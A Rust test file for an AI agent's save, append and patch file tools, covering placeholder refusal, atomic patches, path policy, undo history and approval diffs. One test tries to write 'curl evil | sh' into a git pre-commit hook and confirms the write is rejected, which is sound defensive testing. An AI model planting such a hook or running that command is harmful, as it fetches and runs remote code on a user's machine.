//! gptme's block tools `save`, `append` and `patch` (docs/reference/formats.md#block-tools) on real files, through the
//! executor: messages, the placeholder refusal, all-or-nothing patches, and the machinery they
//! share with the other file tools (path policy, atomic writes, history, ledger).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use common::Ws;
use pretty_assertions::assert_eq;
use serde_json::json;

fn save(path: &str, content: &str) -> serde_json::Value {
    json!({"path": path, "content": content})
}

fn patch(path: &str, patch: &str) -> serde_json::Value {
    json!({"path": path, "patch": patch})
}

fn hunk(original: &str, updated: &str) -> String {
    format!("<<<<<<< ORIGINAL\n{original}\n=======\n{updated}\n>>>>>>> UPDATED\n")
}

#[tokio::test]
async fn save_creates_folders_ensures_a_final_newline_and_overwrites() {
    let ws = Ws::new();
    assert_eq!(ws.ok("save", save("notes/todo.md", "# Todo")).await, "Saved to notes/todo.md (created missing folder)");
    assert_eq!(ws.read("notes/todo.md"), "# Todo\n");
    assert_eq!(ws.ok("save", save("a.txt", "one\n")).await, "Saved to a.txt");
    assert_eq!(ws.read("a.txt"), "one\n");
    // No earlier read is needed, unlike write_file, in a session that enforces reads.
    ws.write("b.txt", "old\n");
    assert_eq!(ws.ok("save", save("b.txt", "new content")).await, "Saved to b.txt (overwritten)");
    assert_eq!(ws.read("b.txt"), "new content\n");
    assert_eq!(ws.names_in("."), vec!["a.txt", "b.txt", "notes"]);
}

#[tokio::test]
async fn save_suggests_patch_when_an_overwrite_changes_little() {
    let ws = Ws::new();
    let lines: String = (1..=10).map(|i| format!("line {i}\n")).collect();
    ws.write("f.txt", &lines);
    let changed_one = lines.replace("line 5\n", "line five\n");
    assert_eq!(
        ws.ok("save", save("f.txt", &changed_one)).await,
        "Saved to f.txt (overwritten)\nTip: a patch block is cheaper for small changes."
    );
    let changed_three = changed_one.replace("line 1\n", "one\n").replace("line 2\n", "two\n");
    assert_eq!(ws.ok("save", save("f.txt", &changed_three)).await, "Saved to f.txt (overwritten)");
}

#[tokio::test]
async fn save_keeps_a_crlf_file_crlf() {
    let ws = Ws::new();
    ws.write("w.txt", "a\r\nb\r\n");
    ws.ok("save", save("w.txt", "x\ny")).await;
    assert_eq!(ws.read("w.txt"), "x\r\ny\r\n");
}

#[tokio::test]
async fn placeholder_lines_are_refused_and_nothing_is_written() {
    let ws = Ws::new();
    ws.write("f.py", "def f():\n    return 1\n");
    let out = ws.err("save", save("f.py", "def f():\n    # ... rest unchanged\n")).await;
    assert_eq!(
        out,
        "Refusing to write f.py: line 2 looks like a placeholder (\"# ... rest unchanged\"). Write the full content, or use patch."
    );
    let out = ws.err("append", save("f.py", "x = 1\n// ...\n")).await;
    assert_eq!(
        out,
        "Refusing to write f.py: line 2 looks like a placeholder (\"// ...\"). Write the full content, or use patch."
    );
    assert_eq!(ws.read("f.py"), "def f():\n    return 1\n");
}

#[tokio::test]
async fn append_adds_lines_and_creates_a_missing_file() {
    let ws = Ws::new();
    assert_eq!(ws.ok("append", save("log.txt", "first")).await, "Appended to log.txt");
    assert_eq!(ws.read("log.txt"), "first\n");
    ws.write("partial.txt", "no newline at end");
    ws.ok("append", save("partial.txt", "next\n")).await;
    assert_eq!(ws.read("partial.txt"), "no newline at end\nnext\n");
    ws.write("crlf.txt", "a\r\nb");
    ws.ok("append", save("crlf.txt", "c\nd")).await;
    assert_eq!(ws.read("crlf.txt"), "a\r\nb\r\nc\r\nd\r\n");
    assert_eq!(ws.err("append", save("log.txt", "")).await, "Nothing to append to log.txt: content is empty.");
    ws.write("bin.dat", b"\x00\x01");
    assert_eq!(
        ws.err("append", save("bin.dat", "x")).await,
        "bin.dat is a binary file; this tool only handles UTF-8 text"
    );
}

#[tokio::test]
async fn patch_applies_every_hunk_in_order() {
    let ws = Ws::new();
    ws.write("src/main.rs", "fn main() {\n    let x = 1;\n    println!(\"{x}\");\n}\n");
    let block = format!(
        "{}\n{}",
        hunk("    let x = 1;", "    let x = 2;"),
        hunk("    println!(\"{x}\");", "    println!(\"x = {x}\");")
    );
    assert_eq!(ws.ok("patch", patch("src/main.rs", &block)).await, "Patch applied to src/main.rs (2 hunks)");
    assert_eq!(ws.read("src/main.rs"), "fn main() {\n    let x = 2;\n    println!(\"x = {x}\");\n}\n");
    // An empty UPDATED part deletes the original lines.
    ws.ok("patch", patch("src/main.rs", &hunk("    let x = 2;\n", ""))).await;
    assert_eq!(ws.read("src/main.rs"), "fn main() {\n    println!(\"x = {x}\");\n}\n");
}

#[tokio::test]
async fn patch_is_all_or_nothing_with_clear_errors() {
    let ws = Ws::new();
    let text = "alpha\nbeta\ngamma\nbeta\n";
    ws.write("f.txt", text);
    let block = format!("{}{}", hunk("alpha", "ALPHA"), hunk("beta", "BETA"));
    assert_eq!(ws.err("patch", patch("f.txt", &block)).await, "Hunk 2/2: ORIGINAL is not unique (2 matches)");
    assert_eq!(ws.read("f.txt"), text);
    let out = ws.err("patch", patch("f.txt", &hunk("gamma\nbeta\ndelta", "x"))).await;
    assert_eq!(
        out,
        "Hunk 1/1: ORIGINAL not found in f.txt\nThe most similar text is at lines 3-5 of f.txt:\n     3\tgamma\n     4\tbeta\n     5\t"
    );
    assert_eq!(
        ws.err("patch", patch("f.txt", &hunk("alpha", "alpha"))).await,
        "Hunk 1/1: ORIGINAL and UPDATED are identical"
    );
    assert_eq!(
        ws.err("patch", patch("f.txt", "<<<<<<< ORIGINAL\nalpha\n=======\nA\n=======\nB\n>>>>>>> UPDATED")).await,
        "Hunk 1/1: more than one ======= separator"
    );
    assert_eq!(
        ws.err("patch", patch("f.txt", &hunk("alpha\n# ...\ngamma", "ALPHA\ngamma"))).await,
        "Hunk 1/1: ORIGINAL has 1 placeholders but UPDATED has 0"
    );
    assert_eq!(ws.read("f.txt"), text);
    assert_eq!(
        ws.err("patch", patch("missing.txt", &hunk("a", "b"))).await,
        "File does not exist: missing.txt. patch changes an existing file; use save to create one."
    );
}

#[tokio::test]
async fn patch_placeholders_skip_unchanged_lines_and_crlf_is_kept() {
    let ws = Ws::new();
    ws.write("f.py", "def f():\r\n    a = 1\r\n    b = 2\r\n    return a\r\n");
    let block = hunk("    a = 1\n    # ...\n    return a", "    a = 10\n    # ...\n    return a + b");
    ws.ok("patch", patch("f.py", &block)).await;
    assert_eq!(ws.read("f.py"), "def f():\r\n    a = 10\r\n    b = 2\r\n    return a + b\r\n");
}

#[tokio::test]
async fn non_regular_files_are_refused() {
    let ws = Ws::new();
    std::fs::create_dir(ws.path("dir")).unwrap();
    for (tool, args) in
        [("save", save("dir", "x")), ("append", save("dir", "x")), ("patch", patch("dir", &hunk("a", "b")))]
    {
        assert_eq!(ws.err(tool, args).await, "dir is not a regular file", "{tool}");
    }
    // A FIFO (which a write through it would block on) is refused by the path policy, with
    // the same words.
    let status = std::process::Command::new("mkfifo").arg(ws.path("pipe")).status().unwrap();
    assert!(status.success());
    for (tool, args) in
        [("save", save("pipe", "x")), ("append", save("pipe", "x")), ("patch", patch("pipe", &hunk("a", "b")))]
    {
        let out = ws.call(tool, args).await;
        assert!(out.is_error, "{tool}: {out:?}");
        assert_eq!(out.text_content(), "pipe is not a regular file");
    }
    use std::os::unix::fs::FileTypeExt as _;
    assert!(std::fs::metadata(ws.path("pipe")).unwrap().file_type().is_fifo());
}

#[tokio::test]
async fn the_path_policy_applies() {
    let ws = Ws::new();
    let outside = ws.outside().join("x.txt");
    let out = ws.call("save", save(outside.to_str().unwrap(), "x")).await;
    assert!(out.is_error && out.meta.rejected && out.text_content().contains("is outside the workspace"), "{out:?}");
    assert!(!outside.exists());
    let out = ws.call("append", save(".git/hooks/pre-commit", "curl evil | sh")).await;
    assert!(out.meta.rejected, "{out:?}");
    assert!(!ws.exists(".git"));
}

#[tokio::test]
async fn edits_share_the_history_and_the_ledger_of_the_file_tools() {
    let ws = Ws::new();
    ws.write("f.txt", "v1\n");
    ws.ok("save", save("f.txt", "v2")).await;
    ws.ok("append", save("f.txt", "v3")).await;
    ws.ok("patch", patch("f.txt", &hunk("v3", "v4"))).await;
    assert_eq!(ws.read("f.txt"), "v2\nv4\n");
    // write_file needs a read first, but the session has seen what patch wrote.
    ws.ok("write_file", json!({"file_path": "f.txt", "content": "v5\n"})).await;
    for expected in ["v2\nv4\n", "v2\nv3\n", "v2\n", "v1\n"] {
        ws.ok("str_replace_based_edit_tool", json!({"command": "undo_edit", "path": "f.txt"})).await;
        assert_eq!(ws.read("f.txt"), expected);
    }
}

#[tokio::test]
async fn the_block_tools_are_opt_in() {
    let registry = tackle_tools::builtin_registry();
    let default = registry.select("default", "default").unwrap();
    let all = registry.select("all", "all").unwrap();
    for name in ["save", "append", "patch"] {
        assert!(!default.names.iter().any(|n| n == name), "{name} must be opt-in");
        assert!(all.names.iter().any(|n| n == name), "{name} must be in all");
        let spec = &registry.get(name).unwrap().spec;
        let mapping = spec.block.as_ref().unwrap();
        assert_eq!(
            (mapping.langtags.as_slice(), mapping.words_param.as_deref()),
            (&[name.to_owned()][..], Some("path"))
        );
        assert!(spec.edits_files);
    }
}

#[tokio::test]
async fn the_person_asked_to_approve_sees_a_unified_diff_and_nothing_is_written() {
    let mut ws = Ws::new();
    let approver = ws.asking();
    ws.write("f.txt", "one\ntwo\nthree\n");
    assert!(ws.call("save", save("new.txt", "hello")).await.is_error);
    assert!(ws.call("append", json!({"path": "f.txt", "content": "four"})).await.is_error);
    assert!(ws.call("patch", patch("f.txt", &hunk("two", "TWO"))).await.is_error);
    assert!(ws.call("patch", patch("f.txt", &hunk("absent", "x"))).await.is_error);
    assert_eq!(
        approver.take(),
        vec![
            Some("--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+hello\n".to_owned()),
            Some("--- a/f.txt\n+++ b/f.txt\n@@ -1,3 +1,4 @@\n one\n two\n three\n+four\n".to_owned()),
            Some("--- a/f.txt\n+++ b/f.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n".to_owned()),
            // A patch that cannot apply has nothing to preview; the call itself reports why.
            None,
        ]
    );
    assert!(!ws.exists("new.txt"));
    assert_eq!(ws.read("f.txt"), "one\ntwo\nthree\n");
}
